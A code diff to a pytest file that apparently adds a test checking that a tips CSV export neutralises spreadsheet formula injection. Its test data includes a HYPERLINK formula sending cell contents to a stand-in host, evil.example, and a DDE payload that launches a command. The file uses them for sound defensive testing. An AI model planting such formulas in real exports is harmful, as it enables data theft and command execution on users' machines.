@@ -6,7 +6,7 @@ import io
 
 import pytest
 
-from tests.factories import GridFactory, UserFactory
+from tests.factories import CategoryFactory, GridFactory, TipFactory, UserFactory
 from tests.rewards.factories import BudgetFactory, FundFactory
 from tipboard.csvexport import BOM, cell, csv_text
 from tipboard.disputes import services as disputes
@@ -18,6 +18,7 @@ from tipboard.permissions import Role
 from tipboard.rewards import services
 from tipboard.rewards.models import Nomination, Reward
 from tipboard.timezones import local_now
+from tipboard.tips.workflow import enqueue_tip
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -37,6 +38,7 @@ COVERED |= {"disputes.figures_csv"}
 #: Tested beside their blueprints: test_the_figures_csv_neutralises_a_hostile_lawyer_name,
 #: test_the_bulletin_csv_neutralises_a_hostile_venue_name, test_the_ledger_csv_neutralises_a_hostile_note.
 COVERED |= {"legal.figures_csv", "venues.bulletin_csv", "care.ledger"}
+COVERED |= {"api.export_csv"}
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -137,4 +139,17 @@ def test_mediation_figures_neutralise_a_hostile_mediator_name(app, client, users
     login(client, users["staff"])
     rows = _cells(client.get("/disputes/figures.csv"))
     assert ["mediator", "'" + HOSTILE[0]] in [r[:2] for r in rows]
+
+
+def test_tip_export_neutralises_hostile_text(client, app_ctx, login):
+    category = CategoryFactory(name_en="=cmd|' /C calc'!A0")
+    for name in HOSTILE:
+        tip = TipFactory(category=category, description=name, address=name)
+        db.session.flush()
+        enqueue_tip(tip, new_subject=True)
+    db.session.commit()
+    login(client, UserFactory(roles=(Role.STAFF,)))
+    rows = _cells(client.get("/api/exports/tips.csv"))
+    assert rows[0][0] == "id" and len(rows) == len(HOSTILE) + 1
+    assert {"'" + name for name in HOSTILE} <= {r[5] for r in rows[1:]}
     _no_formula(rows)
